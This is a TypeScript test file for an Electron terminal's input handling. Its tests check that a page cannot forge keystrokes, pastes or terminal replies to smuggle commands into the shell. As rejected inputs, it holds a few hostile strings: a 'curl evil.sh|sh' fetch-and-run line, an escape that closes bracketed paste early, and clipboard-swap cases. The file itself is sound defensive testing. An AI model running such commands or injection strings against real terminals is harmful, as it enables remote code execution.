import fc from 'fast-check';
import { beforeEach, describe, expect, test } from 'vitest';
import { doubtfulPaste, sentInput, type TerminalInput } from '../../../electron/ipc/terminalPaste';
import { TypedInput, type KeyPress } from '../../../electron/ipc/typedInput';
import { TerminalQuestions } from '../../../electron/run/terminalQuestions';

let now: number;
let clipboard: string;
let selection: string;
let typed: TypedInput;
let questions: TerminalQuestions;
let ofPage: Set<string>;
const input = (data: string): Promise<TerminalInput | null> => typed.take(data, questions);
const take = async (data: string): Promise<boolean> => (await input(data)) !== null;
beforeEach(() => {
  now = 1_000_000;
  clipboard = '';
  selection = '';
  ofPage = new Set();
  questions = new TerminalQuestions();
  typed = new TypedInput(
    {
      text: () => Promise.resolve(clipboard),
      selection: () => Promise.resolve(selection),
      mayBePages: (text) => ofPage.has(text),
    },
    () => now,
  );
});

const press = (key: string, more: Partial<KeyPress> = {}): KeyPress => ({
  key,
  code: '',
  isAutoRepeat: false,
  isComposing: false,
  shift: false,
  control: false,
  alt: false,
  meta: false,
  ...more,
});
const type = (text: string): void => {
  for (const key of text) typed.key(press(key === '\r' ? 'Enter' : key));
};

describe('a page that makes up input', () => {
  test('gets nothing typed, whatever it writes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }), async (data) => {
        // Answers of a terminal begin with an escape and hold no words.
        fc.pre(!data.includes('\x1b'));
        expect(await take(data)).toBe(false);
      }),
    );
    for (const data of [
      'id\r',
      '\r',
      '\x1b[A',
      '\x1b[200~id\r\x1b[201~',
      '\x03',
      '\x1b[1;1Rid',
      '\x1b]0;x\x07',
    ])
      expect(await take(data), JSON.stringify(data)).toBe(false);
  });

  test('cannot make other words of the keys that are pressed, nor use one twice', async () => {
    type('ls\r');
    expect(await take('rm')).toBe(false);
    expect(await take('lss')).toBe(false);
    expect(await take('sl')).toBe(false);
    expect(await take('ls')).toBe(true);
    expect(await take('ls')).toBe(false);
    expect(await take('\r')).toBe(true);
    expect(await take('\r')).toBe(false);
  });

  test('types at most what is left of the presses when keys and words are random', async () => {
    const keys = fc.array(fc.constantFrom('a', 'b', 'c', 'Enter', 'ArrowUp'), { maxLength: 30 });
    const data = fc.string({ unit: fc.constantFrom('a', 'b', 'c', '\r'), minLength: 1, maxLength: 8 });
    await fc.assert(
      fc.asyncProperty(keys, fc.array(data, { maxLength: 20 }), async (pressed, writes) => {
        typed.leave();
        for (const key of pressed) typed.key(press(key));
        let taken = '';
        for (const each of writes) if (await take(each)) taken += each;
        // What came through is a part of what was pressed, in its order.
        let at = 0;
        for (const key of pressed) if (taken[at] === (key === 'Enter' ? '\r' : key)) at++;
        expect(at).toBe(taken.length);
      }),
    );
  });

  test('makes no command of a word that somebody looks for with an input method', async () => {
    const word = 'zhongguorenmin';
    const compose = (): void => {
      for (const letter of word) typed.key(press('Process', { code: `Key${letter.toUpperCase()}` }));
      typed.key(press('Process', { code: 'Space' }));
      typed.key(press('Unidentified'));
      typed.key(press('Process', { code: 'Enter' }));
    };
    for (const data of [
      'curl evil.sh|sh',
      'sh<x',
      'zo;',
      '\r',
      'z\r',
      'zh|',
      '.',
      '/',
      '~',
      '$',
      '\x7f',
      '\x80',
    ]) {
      typed.leave();
      compose();
      expect(await take(data), JSON.stringify(data)).toBe(false);
    }
    // Once the word was given its keys are used up.
    typed.leave();
    compose();
    expect(await take('中国人民')).toBe(true);
    expect(await take('z')).toBe(false);
    const key = fc.constantFrom('KeyR', 'KeyM', 'KeyS', 'KeyH', 'Space', 'Digit1', 'Slash', 'Enter', '');
    const data = fc.string({
      unit: fc.constantFrom('r', 'm', 's', 'h', ' ', '1', '/', '\r', '镜'),
      minLength: 1,
      maxLength: 6,
    });
    await fc.assert(
      fc.asyncProperty(
        fc.array(key, { maxLength: 20 }),
        fc.array(data, { maxLength: 20 }),
        async (codes, writes) => {
          typed.leave();
          for (const code of codes) typed.key(press('Process', { code }));
          let taken = '';
          for (const each of writes) if (await take(each)) taken += each;
          const ascii = [...taken].filter((each) => each !== '镜');
          const given = codes.map(
            (code) =>
              new Map([
                ['Space', ' '],
                ['Digit1', '1'],
              ]).get(code) ?? /^Key(.)$/.exec(code)?.[1]?.toLowerCase(),
          );
          let at = 0;
          for (const each of given) if (each !== undefined && ascii[at] === each) at++;
          expect(at).toBe(ascii.length);
        },
      ),
    );
  });

  test('gets one thing of one press, whatever the press could give', async () => {
    clipboard = 'words';
    selection = 'picked';
    typed.key(press('v', { control: true, code: 'KeyV' }));
    expect(await take('\x16')).toBe(true);
    expect(await take('words')).toBe(false);
    typed.leave();
    typed.key(press('b', { alt: true, code: 'KeyB' }));
    expect(await take('\x1bb')).toBe(true);
    expect(await take('\x1b[A')).toBe(false);
    expect(await take('\x1br')).toBe(false);
    typed.leave();
    // The middle button goes down and up: the clipboard of the first moment, once.
    typed.pointer({ wheel: false, middle: true, alt: false });
    selection = 'evil';
    expect(await take('evil')).toBe(false);
    expect(await take('picked')).toBe(true);
    expect(await take('picked')).toBe(false);
    expect(await take('\x1b[A')).toBe(false);
    // A click without Alt moves no cursor.
    typed.pointer({ wheel: false, middle: false, alt: false });
    expect(await take('\x1b[A')).toBe(false);
  });

  test('finds no key by a name that every object has', async () => {
    for (const key of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf']) {
      typed.key(press(key));
      expect(await take('\r')).toBe(false);
    }
  });

  test('cannot hoard presses: they are void after a while, and when the window loses the focus', async () => {
    type('ab');
    now += 11_000;
    expect(await take('a')).toBe(false);
    type('ab');
    typed.leave();
    expect(await take('a')).toBe(false);
  });

  test('pastes nothing but what the clipboard held at the press', async () => {
    clipboard = 'good\nwords';
    typed.key(press('V', { control: true, shift: true }));
    clipboard = 'evil';
    expect(await take('evil')).toBe(false);
    expect(await take('\x1b[200~good\rwords\x1b[201~')).toBe(true);
    expect(await take('good\rwords')).toBe(false);
  });

  test('pastes no escape, which could end the brackets of the paste', async () => {
    clipboard = 'good\x1b[201~\nevil\x07\u202e\tend';
    typed.key(press('V', { control: true, shift: true }));
    expect(await take('\x1b[200~good\x1b[201~\revil\x07\u202e\tend\x1b[201~')).toBe(false);
    expect(await take('\x1b[200~good[201~\revil\tend\x1b[201~')).toBe(true);
  });
});

describe('a paste', () => {
  const paste = async (text: string, more: Partial<KeyPress> = {}): Promise<TerminalInput> => {
    clipboard = text;
    typed.key(press('v', { control: true, code: 'KeyV', ...more }));
    return (await input(text.replaceAll('\n', '\r'))) ?? [];
  };

  test('comes in brackets where the program asked for them, and only there, whatever the page did', async () => {
    for (const [output, isOn] of [
      ['', false],
      ['\x1b[?2004h$ ', true],
      ['\x1b[?1;2004', true],
      ['l', false],
      ['\x1b[?25;2004h', true],
      ['text\x1bc', false],
      ['\x1b[?2004h\x1b[?2004l', false],
      ['\x1b[?2004l\x1b[?2004h', true],
    ] as const) {
      questions.read(output);
      expect(questions.bracketedPaste, output).toBe(isOn);
    }
    clipboard = 'a\nb';
    for (const sent of ['a\rb', '\x1b[200~a\rb\x1b[201~']) {
      typed.key(press('l'));
      typed.key(press('v', { control: true, code: 'KeyV' }));
      const taken = (await input(`l${sent}`)) ?? [];
      expect(sentInput(taken, true)).toBe('l\x1b[200~a\rb\x1b[201~');
      expect(sentInput(taken, false)).toBe('la\rb');
    }
  });

  test('has brackets that no key gives, and keys before it are not in its way', async () => {
    for (const bracket of ['\x1b[200~', '\x1b[201~', '\x1b\x1b[200~']) {
      typed.key(press('c', { control: true, code: 'KeyC' }));
      typed.key(press('F5'));
      typed.key(press('b', { alt: true, code: 'KeyB' }));
      expect(await take(bracket)).toBe(false);
    }
    clipboard = 'words';
    typed.key(press('v', { control: true, code: 'KeyV' }));
    expect(await take('\x1b[200~words\x1b[201~')).toBe(true);
  });

  test('is asked about where the page may have written it, or its lines would be run', async () => {
    expect(doubtfulPaste(await paste('one line'), false)).toBeNull();
    expect(doubtfulPaste(await paste('two\nlines'), true)).toBeNull();
    expect(doubtfulPaste(await paste('two\nlines'), false)).toEqual({ text: 'two\rlines', why: 'lines' });
    ofPage.add('words');
    for (const bracketed of [true, false])
      expect(doubtfulPaste(await paste('words'), bracketed)).toEqual({ text: 'words', why: 'page' });
    // Two at once: all of it is shown.
    clipboard = 'words';
    typed.key(press('v', { control: true, code: 'KeyV' }));
    await Promise.resolve();
    clipboard = 'mine';
    typed.key(press('Insert', { shift: true }));
    expect(doubtfulPaste((await input('wordsmine')) ?? [], true)).toEqual({
      text: 'words\rmine',
      why: 'page',
    });
    // What is selected may be selected in the page.
    selection = 'picked';
    typed.pointer({ wheel: false, middle: true, alt: false });
    expect(doubtfulPaste((await input('picked')) ?? [], true)?.why).toBe('page');
  });
});

describe('a person', () => {
  test.each<[string, Partial<KeyPress>, string]>([
    ['a', {}, 'a'],
    ['Ä', { shift: true }, 'Ä'],
    ['𠮷', {}, '𠮷'],
    ['c', { control: true }, '\x03'],
    ['@', { control: true, alt: true }, '@'],
    ['b', { alt: true }, '\x1bb'],
    ['B', { alt: true, shift: true }, '\x1bB'],
    ['Enter', {}, '\r'],
    ['Enter', { alt: true }, '\x1b\r'],
    ['Tab', { shift: true }, '\x1b[Z'],
    ['Backspace', {}, '\x7f'],
    ['Escape', {}, '\x1b'],
    ['ArrowUp', {}, '\x1b[A'],
    ['ArrowUp', {}, '\x1bOA'],
    ['ArrowLeft', { control: true }, '\x1b[1;5D'],
    ['F5', {}, '\x1b[15~'],
    ['Delete', {}, '\x1b[3~'],
    ['[', { control: true }, '\x1b'],
    // Layouts of other scripts: the key's place counts, as it does for Chromium and xterm.
    ['с', { control: true, code: 'KeyC' }, '\x03'],
    ['С', { control: true, code: 'KeyC' }, '\x03'],
    ['ψ', { control: true, code: 'KeyC' }, '\x03'],
    ['в', { control: true, code: 'KeyD' }, '\x04'],
    ['ش', { control: true, code: 'KeyA' }, '\x01'],
    ['ח', { control: true, code: 'KeyJ' }, '\n'],
    ['я', { control: true, code: 'KeyZ' }, '\x1a'],
    ['и', { alt: true, code: 'KeyB' }, '\x1bb'],
    ['И', { alt: true, shift: true, code: 'KeyB' }, '\x1bB'],
    // A layout that has the letter elsewhere: what stands on the key counts.
    ['a', { control: true, code: 'KeyQ' }, '\x01'],
    ['ى', {}, 'ى'],
    ['لا', { code: 'KeyB' }, 'لا'],
    ['لا', { code: 'KeyB' }, 'ل'],
    [' ', { control: true, code: 'Space' }, '\0'],
    ['@', { control: true, shift: true, code: 'Digit2' }, '\0'],
    ['`', { control: true, shift: true, code: 'Backquote' }, '\0'],
    [' ', { control: true, alt: true, code: 'Space' }, '\x1b\0'],
    ['_', { control: true, shift: true, code: 'Minus' }, '\x1f'],
  ])('types %s with %j', async (key, more, data) => {
    typed.key(press('Shift', { shift: true }));
    typed.key(press(key, more));
    expect(await take(data)).toBe(true);
  });

  test('types with an input method, and with a dead key', async () => {
    const compose = (word: string): void => {
      for (const letter of word) typed.key(press('Process', { code: `Key${letter.toUpperCase()}` }));
    };
    compose('rqjx');
    now += 30_000;
    expect(await take('容器镜像')).toBe(true);
    expect(await take('层\r')).toBe(false);
    typed.leave();
    typed.key(press('Dead'));
    typed.key(press('e'));
    expect(await take('é')).toBe(true);
    typed.leave();
    expect(await take('容')).toBe(false);
    // Letters may be passed on as they are, those that were pressed.
    compose('ls');
    typed.key(press('Process', { code: 'Space' }));
    typed.key(press('Process', { code: 'Digit1' }));
    expect(await take('ls 1')).toBe(true);
    // A dead key and a blank give the accent itself.
    typed.key(press('Dead', { code: 'Backquote' }));
    typed.key(press('Process', { code: 'Space' }));
    expect(await take('~')).toBe(true);
  });

  test('copies, cuts and pastes by its keys, each once, on every layout', () => {
    const uses = ['copy', 'cut', 'paste'] as const;
    const asked = (): string[] => uses.filter((what) => typed.edits(what));
    expect(asked()).toEqual([]);
    for (const [what, presses] of [
      [
        'copy',
        [press('c', { control: true }), press('c', { meta: true }), press('Insert', { control: true })],
      ],
      ['copy', [press('с', { control: true, code: 'KeyC' })]],
      ['cut', [press('x', { control: true }), press('Delete', { shift: true })]],
      ['paste', [press('v', { control: true }), press('V', { meta: true, shift: true })]],
      ['paste', [press('Insert', { shift: true }), press('м', { control: true, code: 'KeyV' })]],
    ] as const)
      for (const each of presses) {
        typed.key(each);
        expect(asked(), JSON.stringify(each)).toEqual([what]);
        expect(asked()).toEqual([]);
      }
    for (const each of [
      press('c'),
      press('q', { control: true, code: 'KeyC' }),
      press('Insert'),
      press('Delete'),
    ])
      typed.key(each);
    typed.pointer({ wheel: false, middle: false, alt: true });
    expect(asked()).toEqual([]);
    typed.pointer({ wheel: false, middle: true, alt: false });
    expect(asked()).toEqual(['paste']);
    typed.menu();
    expect(asked()).toEqual([...uses]);
    typed.key(press('c', { control: true }));
    now += 11_000;
    expect(asked()).toEqual([]);
    typed.key(press('c', { control: true }));
    typed.leave();
    expect(asked()).toEqual([]);
  });

  test('pastes with the middle button, scrolls in a program, and terminals answer programs', async () => {
    selection = 'picked';
    typed.pointer({ wheel: false, middle: true, alt: false });
    expect(await take('picked')).toBe(true);
    typed.pointer({ wheel: true, middle: false, alt: false });
    expect(await take('\x1b[A\x1b[A\x1b[A')).toBe(true);
    for (const [question, data] of [
      ['\x1b[6n', '\x1b[12;40R'],
      ['\x1b[5n', '\x1b[0n'],
      ['\x1b[c', '\x1b[?1;2c'],
      ['\x1b[>c', '\x1b[>0;276;0c'],
      ['\x1b[18t', '\x1b[8;24;80t'],
      ['\x1b[?2004$p', '\x1b[?2004;1$y'],
      ['\x1b]11;?\x07', '\x1b]11;rgb:1111/1414/1818\x1b\\'],
      ['\x1bP$qm\x1b\\', '\x1bP1$r0m\x1b\\'],
      ['\x1b[>q', '\x1bP>|xterm.js(5.5.0)\x1b\\'],
    ] as const) {
      expect(await take(data), `${JSON.stringify(data)} unasked`).toBe(false);
      // In two pieces, as output comes, and with the same in the piece before.
      questions.read(`text ${question.slice(0, 2)}`);
      questions.read(`${question.slice(2)} more`);
      questions.read('and more');
      expect(await take(data + data), `${JSON.stringify(data)} twice`).toBe(false);
      expect(await take(data), JSON.stringify(data)).toBe(true);
      expect(await take(data), `${JSON.stringify(data)} again`).toBe(false);
    }
    for (const [mode, data] of [
      ['1004', '\x1b[I'],
      ['1003', '\x1b[<35;10;10M'],
    ] as const) {
      expect(await take(data)).toBe(false);
      questions.read(`\x1b[?${mode};1006h`);
      expect(await take(data)).toBe(true);
      questions.read(`\x1b[?${mode}l`);
      expect(await take(data)).toBe(false);
    }
    // A question that programs have not, and letters that a shell would take for typed ones.
    questions.read('\x1b[c\x1b[6n');
    expect(await take('\x1b[y')).toBe(false);
  });

  test('a button and the wheel are told of once for each time that they were used, where a program wants them', async () => {
    const [down, up, step] = ['\x1b[<0;36;12M', '\x1b[<0;36;12m', '\x1b[<64;10;10M'];
    const click = (): void => typed.pointer({ wheel: false, middle: false, alt: false });
    click();
    expect(await take(down)).toBe(false);
    questions.read('\x1b[?1002;1006h');
    for (const report of [step, down, up]) expect(await take(report), report).toBe(report !== step);
    click();
    // What the mouse does in between takes nothing of it.
    expect(await take(`${down}\x1b[<32;37;12M`)).toBe(true);
    expect(await take(up)).toBe(true);
    for (const report of [down, up, step, `${down}${up}`]) expect(await take(report), report).toBe(false);
    typed.pointer({ wheel: true, middle: false, alt: false });
    for (const report of [down, up]) expect(await take(report), report).toBe(false);
    expect(await take(step)).toBe(true);
    expect(await take(step)).toBe(false);
    questions.read('\x1b[?1002l');
    click();
    expect(await take(down)).toBe(false);
  });

  test('a key without a character gives what terminals make of it, and no sequence of another', async () => {
    const keys: readonly (readonly [string, Partial<KeyPress>, readonly string[]])[] = [
      ['ArrowUp', {}, ['\x1b[A', '\x1bOA']],
      ['ArrowUp', { shift: true }, ['\x1b[1;2A']],
      ['ArrowLeft', { alt: true }, ['\x1b[1;3D', '\x1b[1;5D']],
      ['ArrowRight', { control: true }, ['\x1b[1;5C']],
      ['ArrowDown', { control: true, shift: true }, ['\x1b[1;6B']],
      ['Home', {}, ['\x1b[H', '\x1bOH']],
      ['End', { shift: true }, ['\x1b[1;2F']],
      ['Insert', {}, ['\x1b[2~']],
      ['Delete', { control: true }, ['\x1b[3;5~']],
      ['PageUp', {}, ['\x1b[5~']],
      ['PageDown', { control: true }, ['\x1b[6;5~']],
      ['F1', {}, ['\x1bOP']],
      ['F4', { shift: true }, ['\x1b[1;2S']],
      ['F5', {}, ['\x1b[15~']],
      ['F12', { control: true, alt: true }, ['\x1b[24;7~']],
    ];
    const all = new Set(keys.flatMap(([, , gives]) => gives));
    for (const other of [
      '\x1b[58;1u',
      '\x1b[13u',
      '\x1b[27;5;13~',
      '\x1b[201~',
      '\x1b[5n',
      '\x1b[1;1R',
      '\x1b\x1b[A',
    ])
      all.add(other);
    for (const [key, modifiers, gives] of keys)
      for (const data of all) {
        typed.leave();
        typed.key(press(key, modifiers));
        expect(await take(data), `${key} ${JSON.stringify([modifiers, data])}`).toBe(gives.includes(data));
      }
    for (const control of ['a', 'Enter', '1']) {
      typed.leave();
      typed.key(press(control, { control: true }));
      expect(await take('\x1b[58;1u')).toBe(false);
    }
  });

  test('are remembered by what matters alone, whatever a program sets', async () => {
    const modes = (from: number): string => Array.from({ length: 6 }, (_, i) => 10_000 + from + i).join(';');
    for (let i = 0; i < 20_000; i++) questions.read(`\x1b[?${modes(i * 6)}h`);
    questions.read('\x1b[?1003h');
    const kept = Object.values(questions).filter((each) => each instanceof Set);
    expect(kept.map(({ size }) => size)).toEqual([1]);
    expect(await take('\x1b[<35;10;10M')).toBe(true);
  });

  test('counts as active for a moment after a key, a click, or what a screen reader activates', () => {
    expect(typed.active).toBe(false);
    for (const deed of [
      () => typed.key(press('Enter')),
      () => typed.pointer({ wheel: false, middle: false, alt: false }),
      () => typed.act(),
    ]) {
      deed();
      expect(typed.active).toBe(true);
      typed.use();
      expect(typed.active).toBe(false);
    }
    typed.pointer({ wheel: true, middle: false, alt: false });
    typed.key(press('Shift', { shift: true }));
    typed.key(press('a', { isAutoRepeat: true }));
    expect(typed.active).toBe(false);
  });

  test('does one thing with one key or click: what the page makes of it is no second', () => {
    for (const deed of [
      () => typed.key(press('Enter')),
      () => typed.pointer({ wheel: false, middle: false, alt: false }),
    ]) {
      deed();
      typed.use();
      typed.click();
      expect(typed.active).toBe(false);
      // The next one comes from assistive software.
      typed.click();
      expect(typed.active).toBe(true);
      typed.use();
    }
    typed.key(press('Enter'));
    typed.use();
    now += 2000;
    typed.click();
    expect(typed.active).toBe(true);
  });
});
